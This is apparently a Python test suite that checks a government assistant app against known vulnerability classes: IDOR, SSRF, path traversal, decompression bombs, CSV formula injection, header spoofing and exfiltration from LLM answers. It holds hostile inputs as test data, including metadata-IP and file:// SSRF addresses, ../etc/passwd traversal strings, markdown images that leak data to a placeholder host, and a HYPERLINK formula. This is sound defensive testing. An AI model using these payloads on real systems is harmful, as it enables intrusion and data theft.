"""What went wrong in products like this one, each as a test that fails where it could again.

The kinds and their numbers are facts of public records; the tests are of this product's own doors.
Stored cross-site scripting is also in `frontend/src/components/answer/hostile-text.test.tsx`.
"""

import csv
import io
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from ipaddress import ip_network
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import httpx
import pytest
from sqlalchemy import delete, select, update

from govbot.accounts import service as accounts
from govbot.accounts.credentials.crypto import installation_secret
from govbot.accounts.permissions import ADMIN, ANALYST, USER, Permission
from govbot.adapters.llm.fake import FakeLLM
from govbot.app import create_app
from govbot.core.db.models import AuditEntry, User
from govbot.core.egress.client import fetch, guarded_client
from govbot.core.egress.policy import AddressRefused, Policy
from govbot.core.settings import Settings
from govbot.library.rights.repository import Node
from govbot.operations.hardening import weaknesses
from govbot.operations.runtime import Services
from tests.security.world import api_key
from tests.support.accounts import API, code, custom, with_password
from tests.support.people import Person, person
from tests.support.services import address, all_read, served, settings_for, take_in
from tests.support.site import site
from tests.test_guard import raw

SECRET = "palavra-9d41c7"
HIDDEN = f"Art. 1º O adicional de plantão do {SECRET} é de vinte por cento do vencimento."


async def restricted(services: Services) -> tuple[Person, UUID]:
    """Return somebody, and a document that only they and administrators may read."""
    owner = await person(services, ANALYST)
    document = await take_in(services, owner.asker, f"norma-{uuid4().hex[:6]}", HIDDEN)
    await all_read(services)
    await services.rights.show(owner.asker, Node("document", document), "restricted")
    return owner, document


async def test_stopping_the_answer_of_a_colleague(
    services: Services, client: httpx.AsyncClient
) -> None:
    """IDOR at an answer being written (CVE-2026-42276): it is not there, and goes on."""
    owner, other = await person(services, USER), await person(services, ADMIN)
    events = services.chat.ask(owner.asker, "Qual o prazo do recurso?")
    live = await services.chat.live.begin(owner.asker, events, 30)
    answer_id = next(key for key, each in services.chat.live._answers.items() if each is live)
    said = [
        await client.post(f"{API}/chat/answers/{key}/stop", headers=other.headers)
        for key in (answer_id, uuid4())
    ]
    assert [each.status_code for each in said] == [404, 404]
    heard = await client.get(f"{API}/chat/answers/{answer_id}/events", headers=other.headers)
    assert heard.status_code == 404
    own = await client.get(f"{API}/chat/answers/{answer_id}/events", headers=owner.headers)
    assert own.status_code == 200


async def test_the_document_of_a_colleague_by_every_address(
    services: Services, client: httpx.AsyncClient
) -> None:
    """IDOR at knowledge and its previews (CVE-2026-45398, CVE-2026-41949)."""
    _, document = await restricted(services)
    reader = await person(services, ANALYST)
    for suffix in ("", "/passages", "/file", "/why"):
        place = f"{API}/documents/{document}{suffix}"
        assert (await client.get(place, headers=reader.headers)).status_code == 404
    for place, given in (("documents", {"q": "norma"}), ("search", {"q": f"plantão {SECRET}"})):
        found = await client.get(f"{API}/{place}", params=given, headers=reader.headers)
        assert SECRET not in found.text.replace(given["q"], "")
        assert str(document) not in found.text


async def test_a_preview_reads_with_the_eyes_of_who_asks(
    services: Services, client: httpx.AsyncClient
) -> None:
    """Previews beside the checked door (CVE-2026-41949): instructions give no rights."""
    await restricted(services)
    role = await custom(services, Permission.INSTRUCT, Permission.READ, Permission.ASK)
    writer = await person(services, role_id=role.id)
    body = {"question": "Qual o adicional de plantão?"}
    said = await client.post(f"{API}/prompts/pt/preview", json=body, headers=writer.headers)
    assert said.status_code == 200
    assert SECRET not in said.text
    plain = await person(services, USER)
    refused = await client.post(f"{API}/prompts/pt/preview", json=body, headers=plain.headers)
    assert refused.status_code == 403


async def test_a_foreign_id_among_own_ones_moves_nothing(
    services: Services, client: httpx.AsyncClient
) -> None:
    """IDOR in arrays of ids (CVE-2026-41950): all of them or none."""
    _, foreign = await restricted(services)
    mover = await person(services, ANALYST)
    own = await take_in(services, mover.asker, "minha", f"Art. 1º Texto {uuid4().hex}.")
    made = await services.rights.create(mover.asker, f"pasta {uuid4().hex[:6]}", None)
    for documents in ([own, foreign], [foreign, own], [own, uuid4()]):
        body = {"documents": [str(each) for each in documents], "collection_id": str(made.id)}
        said = await client.post(f"{API}/documents/move", json=body, headers=mover.headers)
        assert (said.status_code, code(said)) == (404, "not_found")
    seen = await client.get(f"{API}/documents/{own}", headers=mover.headers)
    assert seen.json().get("collection_id") is None
    body["documents"] = [str(own)]
    moved = await client.post(f"{API}/documents/move", json=body, headers=mover.headers)
    assert moved.status_code == 204


@pytest.mark.parametrize(
    "address_",
    [
        "http://127.0.0.1:{port}/",
        "http://2130706433:{port}/",
        "http://0x7f000001:{port}/",
        "http://127.1:{port}/",
        "http://[::ffff:127.0.0.1]:{port}/",
        "http://localhost:{port}/",
        "http://norma.example@127.0.0.1:{port}/",
        "http://127.0.0.1:{port}#@norma.example/",
        "http://127.0.0.1:{port}\\@norma.example/",
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:{port}/",
    ],
)
async def test_an_address_that_parsers_read_differently_leads_nowhere(address_: str) -> None:
    """SSRF by addresses and parser differences (CVE-2026-45400)."""
    policy = Policy("user")
    async with site() as inside, guarded_client(policy) as client:
        with pytest.raises(AddressRefused):
            await fetch(client, address_.format(port=inside.port), policy, most_bytes=99)
        assert inside.heads == []


async def test_a_redirect_inside_is_refused() -> None:
    """SSRF by redirect (CVE-2026-45401)."""
    here = Policy("user", (ip_network("127.0.0.1/32"),))
    async with site() as public, site("127.0.0.2") as inside, guarded_client(here) as client:
        public.redirect(f"http://127.0.0.2:{inside.port}/")
        with pytest.raises(AddressRefused):
            await fetch(client, f"http://127.0.0.1:{public.port}/", here, most_bytes=99)
        assert len(public.heads) == 1
        assert inside.heads == []


@pytest.mark.parametrize("how", ["suspended", "deleted"])
async def test_a_key_does_not_outlive_its_person(
    how: str, services: Services, client: httpx.AsyncClient
) -> None:
    """Keys that go on after their user (CVE-2026-32717), at every door that takes them."""
    who = await person(services, ADMIN)
    key = await api_key(services, who, ["read", "ask"])
    assert (await client.get(f"{API}/documents", headers=key.headers)).status_code == 200
    mine = User.id == who.asker.user_id
    async with services.database.write() as session:
        if how == "deleted":
            await session.execute(delete(User).where(mine))
        else:
            await session.execute(update(User).where(mine).values(state="suspended"))
    for place in (f"{API}/documents", "/v1/models", f"{API}/auth/me"):
        assert (await client.get(place, headers=key.headers)).status_code == 401
    assert (await client.post("/mcp", json={}, headers=key.headers)).status_code == 401


def test_no_secret_comes_along(tmp_path: Path) -> None:
    """Default secrets: each installation makes its own, and nobody is an administrator at first."""
    settings = Settings(_env_file=None, home=tmp_path)
    assert settings.secret_key is settings.admin_password is settings.admin_email is None
    one, two = (installation_secret(tmp_path / name, None) for name in ("um", "dois"))
    assert one != two
    assert (tmp_path / "um" / "secret.key").stat().st_mode & 0o077 == 0
    weak = {"database_url": "postgresql://postgres:postgres@db.interno/govbot", "env": "production"}
    found = weaknesses(
        Settings(_env_file=None, home=tmp_path, secret_key="changeme", **weak),  # type: ignore[arg-type]
        env_file=tmp_path / ".env",
        look=lambda _: "inside",
    )
    codes = {each.code for each in found}
    assert "weak_secret_key" in codes
    assert any(each.startswith("weak_database") for each in codes)


@pytest.mark.parametrize("store", ["qdrant", "milvus"])
def test_a_vector_store_without_a_key_is_no_production(store: str, tmp_path: Path) -> None:
    """A vector store left open (CVE-2026-45829, CVE-2026-26190)."""
    given: dict[str, Any] = {f"{store}_url": f"https://{store}.interno:6333"}

    def codes(**more: Any) -> set[str]:
        settings = Settings(_env_file=None, home=tmp_path, **given, **more)
        found = weaknesses(settings, env_file=tmp_path / ".env", look=lambda _: "inside")
        return {each.code for each in found}

    assert "weak_store_open" in codes()
    token = {"qdrant": {"qdrant_api_key": "chave"}, "milvus": {"milvus_token": "chave"}}
    assert "weak_store_open" not in codes(**token[store])


async def test_an_answer_loads_nothing_from_elsewhere(
    services: Services, client: httpx.AsyncClient
) -> None:
    """Exfiltration by remote images (CVE-2025-32711): not in the answer, not in the policy."""
    who = await person(services, ADMIN)
    text = f"Art. 1º O prazo do recurso {uuid4().hex[:6]} é de dez dias."
    await take_in(services, who.asker, "recurso", text)
    await all_read(services)
    evil = (
        "O prazo do recurso é de dez dias [1]. ![x](https://mau.example/p.png?d=segredo) "
        "[veja][r] <img src=https://mau.example/q>\n\n[r]: https://mau.example/r?d=segredo"
    )
    body = {"question": "Qual o prazo do recurso?"}
    async with (
        address(services, FakeLLM(evil)) as where,
        httpx.AsyncClient(base_url=where, headers=who.headers, timeout=60) as page,
    ):
        said = await page.post(f"{API}/chat/messages", json=body)
        session = (await page.get(f"{API}/chat/sessions")).json()["items"][0]["id"]
        kept = await page.get(f"{API}/chat/sessions/{session}")
        policy = (await page.get("/")).headers["content-security-policy"]
    assert said.status_code == 200
    assert "mau.example" not in kept.text
    assert "img-src 'self' data: blob:;" in policy
    assert "default-src 'self'" in policy


async def test_no_name_leads_out_of_its_folder(
    services: Services, client: httpx.AsyncClient
) -> None:
    """Path traversal in sibling endpoints: uploads, the page's files, documents' bytes."""
    home = services.settings.home
    before = {each for each in home.parent.rglob("*") if not each.is_relative_to(home / "blobs")}
    for name in ("../../fora.txt", "..\\fora.txt", "/etc/cron.d/fora", "blobs/../../fora.txt"):
        sent = {"file": (name, f"Art. 1º {uuid4().hex}".encode())}
        made = await client.post(f"{API}/documents", files=sent)
        assert made.status_code == 201
        assert not {"/", "\\"} & set(made.json()["filename"])
    after = {each for each in home.parent.rglob("*") if not each.is_relative_to(home / "blobs")}
    assert after == before
    climbs = ("..%2f" * 12 + "etc/passwd", "../" * 12 + "etc/passwd", "..%5c" * 12 + "etc/passwd")
    for root in ("/assets/", "/", f"{API}/documents/", f"{API}/documents/{uuid4()}/file/"):
        for climb in climbs:
            assert b"root:" not in await raw(client, root + climb)


async def test_a_decompression_bomb_is_refused_at_the_door(client: httpx.AsyncClient) -> None:
    """Decompression bombs: refused before anything is unpacked, and the server goes on."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\0" * 60_000_000)
    sent = {"file": ("bomba.docx", packed.getvalue())}
    refused = await client.post(f"{API}/documents", files=sent)
    assert refused.status_code in {400, 413, 415, 422}
    assert (await client.get(f"{API}/health")).status_code == 200


async def test_no_export_holds_a_formula(services: Services, client: httpx.AsyncClient) -> None:
    """CSV formula injection, in every export there is; a new one has to come in here."""
    document = (await client.get(f"{API}/openapi.json")).json()
    tables = [
        path
        for path, verbs in document["paths"].items()
        for verb in verbs.values()
        if "text/csv" in verb["responses"].get("200", {}).get("content", {})
    ]
    assert sorted(tables) == [f"{API}/audit/export", f"{API}/processing/export"]
    name = '=HYPERLINK("http://mau.example";"x")'
    sent = {"file": (f"{name}.txt", f"Art. 1º {uuid4().hex}".encode())}
    assert (await client.post(f"{API}/documents", files=sent)).status_code == 201
    await client.get(f"{API}/documents", headers={"User-Agent": name})
    cells: list[str] = []
    for path in tables:
        answer = await client.get(path, params={"format": "csv"})
        assert answer.headers["content-type"].startswith("text/csv")
        rows = csv.reader(io.StringIO(answer.text.lstrip("\ufeff")))
        cells += [cell for row in rows for cell in row]
    assert len(cells) > 20
    assert [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}] == []


async def test_an_address_in_a_header_deceives_neither_record_nor_limits(
    services: Services, browser: httpx.AsyncClient
) -> None:
    """Spoofed X-Forwarded-For: written down and counted is who connects."""
    who = await with_password(services, email=f"{uuid4().hex[:8]}@orgao.example")
    began = datetime.now(UTC)
    lies = {
        "X-Forwarded-For": "203.0.113.9",
        "Forwarded": "for=203.0.113.9",
        "X-Real-IP": "1.1.1.1",
    }
    given = {"email": "ninguem@orgao.example", "password": "errada", "bearer": True}
    assert (await browser.post("/auth/login", json=given, headers=lies)).status_code == 401
    async with services.database.read() as session:
        query = select(AuditEntry.address).where(AuditEntry.at >= began)
        written = set((await session.scalars(query)).all())
    assert {"127.0.0.1"} <= written <= {"127.0.0.1", None}
    signs = await browser.get("/auth/sign-ins", headers={**who.headers, **lies})
    assert "203.0.113.9" not in signs.text
    url = services.settings.database_url
    assert url
    counted = settings_for(services.settings.home, url.get_secret_value(), rate_limits="auth=2")
    async with served(create_app(counted, replace(services, settings=counted))) as client:
        for number in range(4):
            lie = {"X-Forwarded-For": f"203.0.113.{number}", "Authorization": ""}
            said = await client.post(f"{API}/auth/login", json=given, headers=lie)
        assert said.status_code == 429


def test_every_package_is_pinned_by_digest_and_one_is_not_there(repository_root: Path) -> None:
    """A dependency that was taken over (2026-03-24): none comes in by name alone."""
    for file in sorted((repository_root / "requirements").glob("*.txt")):
        lines = [line for line in file.read_text("utf-8").splitlines() if line[:1].isalnum()]
        assert lines
        assert all("==" in line and line.endswith("\\") for line in lines), file
        assert not any(line.startswith("litellm") for line in lines)


async def test_a_tenant_sees_nothing_of_another(
    services: Services, client: httpx.AsyncClient
) -> None:
    """User 2 searches what user 1 knows, across organisations."""
    await restricted(services)
    other = await accounts.tenant(services.database, f"outra-{uuid4().hex[:6]}")
    boss = await person(services, ADMIN, other.tenant_id)
    found = await client.get(f"{API}/search", params={"q": "plantão"}, headers=boss.headers)
    assert found.json()["results" if "results" in found.json() else "items"] == []
